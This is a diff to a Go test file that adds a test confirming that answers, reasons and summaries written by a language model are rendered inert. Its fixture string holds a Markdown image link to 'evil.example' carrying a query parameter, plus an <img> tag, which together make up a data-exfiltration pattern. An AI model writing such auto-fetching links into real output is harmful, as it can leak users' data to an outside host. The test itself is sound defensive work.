@@ -229,3 +229,25 @@ func TestPromptsStayBounded(t *testing.T) {
 	require.NoError(t, err)
 	require.Less(t, chat.EstimateTokens(prompts(s)[0]), 14_000)
 }
+
+// TestNothingOfTheModelIsActive: whatever the model writes into an answer, its reasons
+// or a summary, a reader of Markdown fetches nothing and follows nothing unseen.
+func TestNothingOfTheModelIsActive(t *testing.T) {
+	t.Parallel()
+	const hostile, shown = `![x](https://evil.example/a?q=t) <img src=x> [docs](https://evil.example)`, "x (https://evil.example/a?q=t) ‹img src=x> docs (https://evil.example)"
+	a, _ := advisor(t, advice.Config{}, `{"kind":"DirectAnswer","answer":"`+hostile+`"}`, `{"kind":"DontKnow","reason":"`+hostile+`"}`,
+		"Use t_1. "+hostile, `{"outcome":"insufficient_info","scopes":[{"mart":"Dairy","reason":"`+hostile+`"},{"mart":"Bakery"}],"question":""}`)
+	got, err := a.Answer(t.Context(), advice.AnswerRequest{Question: ask("x"), Manifest: tables(2), Detailed: 1})
+	require.NoError(t, err)
+	require.Equal(t, shown, got.Text)
+	got, err = a.Answer(t.Context(), advice.AnswerRequest{Question: ask("x"), Manifest: tables(2), Detailed: 1})
+	require.NoError(t, err)
+	require.Equal(t, shown, got.DontKnow)
+	text, err := a.Summarize(t.Context(), advice.SummaryRequest{Question: ask("bread?"), Level: advice.Full, Tables: []advice.Found{{Table: tables(1)[0]}}})
+	require.NoError(t, err)
+	require.Equal(t, "Use t_1. "+shown, text)
+	scope, err := a.Scope(t.Context(), advice.ScopeRequest{Question: ask("milk or bread"), Marts: marts()})
+	require.NoError(t, err)
+	require.NotContains(t, scope.Marts[0].Reason, "](")
+	require.NotContains(t, scope.Marts[0].Reason, "<img")
+}
